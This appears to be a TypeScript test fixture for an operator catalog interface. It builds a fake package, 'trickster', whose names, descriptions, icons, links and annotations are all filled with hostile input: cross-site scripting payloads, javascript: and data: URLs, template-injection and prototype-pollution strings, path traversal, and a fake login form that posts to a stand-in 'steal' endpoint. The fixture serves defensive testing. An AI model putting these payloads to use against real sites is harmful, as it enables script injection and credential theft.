/** Hostile content in every text of a catalog, which must not run or break a page. */
import { anApi } from '../../build/api';
import { text } from '../../build/fields';
import { anOperator, requiresOneOf } from '../../build/operator';
import { aChannel, aPackage, deprecated } from '../../build/package';

const WIDE_TABLE = [
  `| ${Array.from({ length: 40 }, (_, column) => `Column ${column + 1}`).join(' | ')} |`,
  `|${' --- |'.repeat(40)}`,
  ...Array.from(
    { length: 60 },
    (_, row) => `|${` cell-${row}-without-any-place-to-break |`.repeat(40)}`,
  ),
].join('\n');

const DESCRIPTION = `# <script>alert('heading')</script>Trickster

<script>window.tricked = 'script'</script>
<img src="x" onerror="window.tricked = 'onerror'">
<svg onload="window.tricked = 'svg'"><circle r="9"/></svg>
<iframe src="https://tracker.example.com/frame"></iframe>
<p style="background: url(https://tracker.example.com/style.png)" onclick="window.tricked='click'">Styled</p>
<details open ontoggle="window.tricked='toggle'"><summary>More</summary></details>
<input autofocus onfocus="window.tricked='focus'">
<math><mtext></form><form><mglyph><style></math><img src onerror="window.tricked='mutation'">
<link rel="stylesheet" href="https://tracker.example.com/sheet.css">
<meta http-equiv="refresh" content="0; url=https://tracker.example.com/">
<video src="https://tracker.example.com/film.mp4" autoplay></video>
<style>body { display: none }</style>
<form action="https://tracker.example.com/steal"><input name="password"><button>Log in again</button></form>
<a href="javascript:window.tricked='html'">Documentation</a>
<base href="https://tracker.example.com/">

[Release notes](javascript:window.tricked='markdown')
[Download](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[Spaces](java
script:alert(1))
![Logo](http://tracker.example.com/pixel.png "http image")
![Logo](x" onerror="window.tricked='image')

{{constructor.constructor('window.tricked=1')()}} \${7*7} %s %d <%= 7*7 %>

${'> '.repeat(60)}nested

${'*'.repeat(5000)}

${WIDE_TABLE}

\`\`\`html
</code></pre><script>window.tricked = 'fence'</script>
\`\`\`
`;

const ICON = [
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" onload="alert(1)">',
  "<script>window.tricked = 'icon'</script>",
  '<image href="http://tracker.example.com/pixel.png" width="1" height="1"/>',
  '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.tricked=1"/></foreignObject>',
  '<style>@import url(https://tracker.example.com/icon.css); rect { fill: url(https://tracker.example.com/fill.svg#f) }</style>',
  '<use href="https://tracker.example.com/sprite.svg#s"/><animate onbegin="parent.tricked=1" attributeName="x" dur="1s"/>',
  '<rect width="64" height="64" rx="14" fill="#e03131"/>',
  '</svg>',
].join('');

/** Text that would run as markup; its words name its origin. */
function aTrick(where: string): string {
  return `<img src=x onerror="window.tricked='${where}'">${where}`;
}

const operator = anOperator({
  packageName: 'trickster',
  displayName: `<img src=x onerror="window.tricked='name'">Trickster "quoted" & \u202Ereversed\u202C\u0000`,
  provider: { name: '"><script>window.tricked="provider"</script>', url: 'javascript:alert(1)' },
  summary: '<b>Bold</b> claims, {{mustaches}} and ${dollars}; a summary that tries to be code.',
  description: DESCRIPTION,
  categories: ['<i>Category</i>', 'constructor', '__proto__'],
  keywords: ['<script>', 'toString', ''],
  maintainers: [
    { name: aTrick('maintainer'), email: 'a@example.com?body=<script>alert(1)</script>' },
    { name: 'Mail', email: 'javascript:alert(1)//@example.com' },
  ],
  icon: ICON,
  apis: [
    anApi({
      group: 'trickster.example.com',
      kind: 'Trick',
      displayName: '<script>window.tricked="api"</script>',
      description: '[click](javascript:alert(1))',
      spec: { toString: text('<b>Title</b>', '<img src=x onerror=alert(1)>') },
      examples: { example: { toString: '<script>alert(1)</script>' } },
    }),
  ],
  annotations: {
    repository: 'javascript:alert(document.domain)',
    'marketplace.openshift.io/support-workflow': 'javascript:alert(1)',
    'operator.openshift.io/uninstall-message': '<img src=x onerror="window.tricked=1">',
    'operatorframework.io/suggested-namespace': '../../etc',
    'operatorframework.io/suggested-namespace-template': '{"metadata": "no object"}',
    'operatorframework.io/initialization-resource': '[1, 2',
    'operators.operatorframework.io/internal-objects': '{"not": "a list"}',
    'console.openshift.io/plugins': '"../../evil"',
    'alm-examples': '{"not": "a list"}',
  },
  links: [
    { name: 'Documentation', url: 'javascript:alert(1)' },
    { name: '<b>Data</b>', url: 'data:text/html,<script>alert(1)</script>' },
    { name: 'Relative', url: '//tracker.example.com' },
  ],
});

/** Well-formed content is parsed further, including hidden content. */
const WELL_FORMED = {
  'alm-examples': `[{
    "apiVersion": "trickster.example.com/v1",
    "kind": "Trick",
    "metadata": { "name": "${aTrick('example').replaceAll('"', '\\"')}", "__proto__": { "tricked": true } },
    "__proto__": { "tricked": true },
    "spec": { "constructor": { "prototype": { "tricked": true } } }
  }]`,
  'operatorframework.io/initialization-resource': `{
    "apiVersion": "trickster.example.com/v1",
    "kind": "Trick",
    "metadata": { "name": "javascript:alert(1)" },
    "__proto__": { "tricked": true }
  }`,
  'operators.operatorframework.io/internal-objects': '["__proto__", "<script>alert(1)</script>"]',
  'operators.openshift.io/valid-subscription': JSON.stringify([aTrick('subscription')]),
  'operatorframework.io/suggested-namespace-template': JSON.stringify({
    kind: 'Namespace',
    metadata: { name: 'tricks', annotations: { hostile: aTrick('template') } },
  }),
  'operator.openshift.io/uninstall-message': aTrick('farewell'),
  'olm.properties': JSON.stringify([requiresOneOf(aTrick('constraint'), { nobody: '>=1.0.0' })]),
  'console.openshift.io/plugins': JSON.stringify(['evil', aTrick('plugin')]),
};

/** Channel names are shown and become part of URLs. */
const CHANNEL = '"><svg onload=alert(1)>';

export const trickster = aPackage(operator, {
  channels: [aChannel('stable', '6.6.6'), aChannel(CHANNEL, '6.5.0', '6.6.5')],
  releases: [
    { version: '6.6.6', createdAt: '2026-04-01' },
    { version: '6.6.5', createdAt: '2026-03-01', changes: { annotations: WELL_FORMED } },
    { version: '6.5.0', createdAt: '2026-02-01', changes: { annotations: WELL_FORMED } },
  ],
  deprecations: [
    deprecated('package', aTrick('deprecated package')),
    deprecated({ channel: CHANNEL }, aTrick('deprecated channel')),
    deprecated({ bundle: 'trickster.v6.5.0' }, aTrick('deprecated version')),
  ],
});
